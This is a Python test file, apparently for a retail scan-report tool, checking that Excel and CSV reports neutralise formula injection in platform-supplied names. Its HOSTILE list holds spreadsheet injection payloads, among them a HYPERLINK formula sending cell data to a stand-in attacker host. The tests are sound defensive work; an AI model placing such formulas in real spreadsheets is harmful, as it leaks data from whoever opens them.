"""Platform text in the reports is data: no live formula in the Excel file or the CSVs, no crash
on characters Excel cannot hold, and our own numbers stay numbers (issue 12, point 10)."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import pandas as pd
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from scanjobs.report import write_reports
from scanjobs.report.excel import write_excel
from scanjobs.report.rules import DETAIL_COLUMNS, build_analysis

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
HOSTILE = [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "#N/A", "=1", "bell\x07name", "nul\x00"]


def detail(scan: int, report: int, section: str, pog: str, **kw: Any) -> dict[str, Any]:
    row: dict[str, Any] = dict.fromkeys(DETAIL_COLUMNS)
    row.update(
        scan_id=scan,
        report_id=report,
        planogram_name=pog,
        section_name=section,
        is_additional_section=False,
        pre_pog_pct=-3.5,  # a negative number of ours must stay a number
        store_planogram_id=7,
        ok=3,
        map_by=section,
    )
    row.update(kw)
    return row


def analysis_of(texts: list[str]) -> tuple[pd.DataFrame, pd.DataFrame, pd.DataFrame]:
    n = len(texts)
    source = pd.DataFrame(
        [detail(i + 1, i + 1, t, t) for i, t in enumerate(texts)], columns=list(DETAIL_COLUMNS)
    )
    target = pd.DataFrame(
        [detail(100 + i, i + 1, t, t) for i, t in enumerate(texts)], columns=list(DETAIL_COLUMNS)
    )
    pairs: list[tuple[int, int | None]] = [(i + 1, 100 + i) for i in range(n)]
    return source, target, build_analysis(source, target, pairs, {100 + i for i in range(n)})


def excel_text(text: str) -> str:
    """What an Excel cell holds of `text` when read back: no control character, and line ends
    as XML reads them (a carriage return is a line feed)."""
    return ILLEGAL_CHARACTERS_RE.sub("\ufffd", text).replace("\r\n", "\n").replace("\r", "\n")


def test_excel_cells_hold_platform_text_as_text(tmp_path: Path) -> None:
    """issue 12, point 10: a formula-like name is a string cell, never a formula (nor an error)."""
    _, _, analysis = analysis_of(HOSTILE)
    path = tmp_path / "a.xlsx"
    write_excel(analysis, path)
    wb = load_workbook(path)
    ws = wb["Analysis"]
    columns = list(analysis.columns)
    for row, text in enumerate(HOSTILE, start=2):
        for column in ("source_section_name", "target_planogram_name", "MAv2_Map_by"):
            cell = ws.cell(row, columns.index(column) + 1)
            assert cell.data_type == "s", (column, text, cell.data_type)
            assert cell.value == excel_text(text)
        pct = ws.cell(row, columns.index("source_pre_pog_pct") + 1)
        assert pct.data_type == "n" and pct.value == -3.5
    summary = wb["Summary"]
    names = [c for row in summary.iter_rows() for c in row if isinstance(c.value, str)]
    for text in HOSTILE:  # the per-POG table names each target POG, as text
        assert [c.data_type for c in names if c.value == excel_text(text)] == ["s"], text
    assert not [c for c in names if c.data_type != "s"]


def test_csv_reports_neutralise_formulas_and_keep_numbers(tmp_path: Path) -> None:
    """issue 12, point 10: every CSV cell of platform text that starts a formula is quoted
    (OWASP: a leading single quote); ids, percentages and negative numbers stay numbers; a
    carriage return in a name does not split its row in two."""
    source, target, analysis = analysis_of(HOSTILE)
    paths = write_reports(tmp_path, source, target, analysis)
    for path, column, id_column in (
        (paths.analysis_csv, "source_section_name", "source_scan_id"),
        (paths.analysis_csv, "target_planogram_name", "target_scan_id"),
        (paths.analysis_csv, "MAv2_Map_by", "source_scan_id"),
        (paths.source_details, "section_name", "scan_id"),
        (paths.target_details, "planogram_name", "scan_id"),
    ):
        with open(path, newline="", encoding="utf-8") as fh:
            rows = list(csv.DictReader(fh))
        assert len(rows) == len(HOSTILE)
        for row, text in zip(rows, HOSTILE, strict=True):
            want = text if text[0] not in "=+-@\t\r" else "'" + text
            assert row[column] == want, (path.name, column)
            assert row[id_column].isdigit()
        pct = "source_pre_pog_pct" if "source_pre_pog_pct" in rows[0] else "pre_pog_pct"
        assert {r[pct] for r in rows} == {"-3.5"}


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.text(min_size=1, max_size=40), min_size=1, max_size=4))
def test_any_platform_text_is_written_and_read_back(tmp_path: Path, texts: list[str]) -> None:
    """issue 12, point 10: whatever text the platform sends, the Excel report is written, each
    cell holding the text as a string (characters Excel cannot hold replaced), and the CSV
    holds the text itself or, when it would start a formula, the text after a single quote."""
    source, target, analysis = analysis_of(texts)
    paths = write_reports(tmp_path / "out", source, target, analysis)
    ws = load_workbook(paths.analysis_xlsx)["Analysis"]
    column = list(analysis.columns).index("source_section_name") + 1
    for row, text in enumerate(texts, start=2):
        cell = ws.cell(row, column)
        assert cell.data_type == "s" and cell.value == excel_text(text)
    with open(paths.analysis_csv, newline="", encoding="utf-8") as fh:
        got = [r["source_section_name"] for r in csv.DictReader(fh)]
    for value, text in zip(got, texts, strict=True):
        assert value in (text, "'" + text)
        assert value[:1] not in ("=", "+", "-", "@", "\t", "\r") or value == text
